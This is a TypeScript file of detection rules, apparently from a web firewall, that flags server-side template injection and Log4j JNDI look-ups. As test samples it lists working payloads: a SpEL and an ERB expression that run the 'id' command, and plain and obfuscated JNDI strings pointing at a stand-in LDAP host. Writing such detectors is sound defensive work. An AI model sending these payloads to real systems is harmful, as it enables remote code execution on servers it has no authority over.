import { everyValue, rule, type ValueRule } from 'sallyport/rules'
import { jndi, jndiNeeds, template, templateNeeds } from 'sallyport/runtime'

/** Template and expression languages, and look-ups in log lines. */
export const templates: readonly ValueRule[] = [
  rule({
    id: 514_010,
    message: 'Template injection: the value computes something in a template',
    stops:
      'Expressions of Jinja, Twig, Freemarker, Velocity, ERB, OGNL, SpEL, MVEL and their like that reach for more than a name.',
    severity: 'critical',
    tags: ['attack-ssti', 'capec/242'],
    in: everyValue,
    detect: template,
    needs: templateNeeds,
    matches: ['{{7*7}}', "${T(java.lang.Runtime).getRuntime().exec('id')}", '<%= system("id") %>'],
    passes: ['Dear {{first_name}}, your order', 'costs ${amount}', '{a: {b: 1}}', '50% off'],
  }),
  rule({
    id: 514_110,
    message: 'Look-up in a log line: the value makes a logger fetch something',
    stops: 'JNDI look-ups of Log4j, nested and spelt in pieces.',
    severity: 'critical',
    tags: ['attack-rce', 'capec/242'],
    in: everyValue,
    detect: jndi,
    needs: jndiNeeds,
    matches: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:${lower:l}dap://x.example/a}'],
    passes: ['${name}', 'Dear ${user}, see ldap://directory.example'],
  }),
]
